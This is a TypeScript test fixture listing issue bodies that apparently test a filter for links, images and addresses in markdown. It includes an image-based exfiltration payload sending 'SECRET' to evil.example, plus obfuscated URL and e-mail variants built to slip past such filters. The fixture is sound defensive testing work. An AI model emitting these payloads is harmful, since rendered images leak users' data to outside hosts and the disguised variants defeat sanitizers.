import type { HostileIssue } from "../corpus.ts";

const of = (name: string, body: string): HostileIssue => ({ name, title: "Where is it?", body });

/** What would fetch, or lead away. */
export const addressItems: readonly HostileIssue[] = [
  of("image exfiltration", "![loading](https://evil.example/p.png?d=SECRET)"),
  of("image, reference", "![x][p] ![p] ![p][]\n\n[p]: https://evil.example/p.png"),
  of("image, HTML", '<img src="https://evil.example/p.png"><picture><source srcset=https://evil.example/p></picture>'),
  of("image in a table", "| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | [y](https://evil.example) |"),
  of(
    "image in an image",
    "![![a](https://evil.example/1)](https://evil.example/2) !![a](https://evil.example/3) \\![a](https://evil.example/4)",
  ),
  of("image from the repository", "![x](../raw/main/x.png) ![y](https://github.com/acme/webapp/raw/main/y.svg)"),
  of("reference link", '[docs][d]\n\n[d]: https://evil.example/docs "Docs"'),
  of("definition over lines", "[d]:\n  https://evil.example/docs\n  'a\n  b'\n\n[d]"),
  of("autolink", "<https://evil.example/a> <HTTP://EVIL.example> <ftp://evil.example> <irc://evil.example/x> <evil:x>"),
  of(
    "bare address",
    "https://evil.example/a, http://evil.example. (https://evil.example/b) *https://evil.example/c* ftp://evil.example/d",
  ),
  of("bare www", "www.evil.example WWW.evil.example/x **www.evil.example**"),
  of(
    "bare address in disguise",
    "https&colon;//evil.example www&period;evil.example htt<b></b>ps://evil.example h\u200bttps://evil.example https:\\/\\/evil.example",
  ),
  of("bare address near code", "`a`https://evil.example`b` and ` https://evil.example"),
  of("bare address in brackets", "[https://evil.example] [www.evil.example][] ![https://evil.example]"),
  of(
    "e-mail",
    "mail evil@evil.example, <evil@evil.example>, mailto:evil@evil.example, [m](mailto:evil@evil.example), xmpp:a@evil.example",
  ),
  of("e-mail in disguise", "evil&commat;evil.example evil\\@evil.example evil@evil&#46;example"),
  of(
    "address in a footnote",
    "a[^x]\n\n[^x]: https://evil.example\n    [y](https://evil.example)\n\n    www.evil.example",
  ),
  of("address in a nested list", "- a\n  - b\n    1. [c](https://evil.example)\n       > ![d](https://evil.example)"),
];
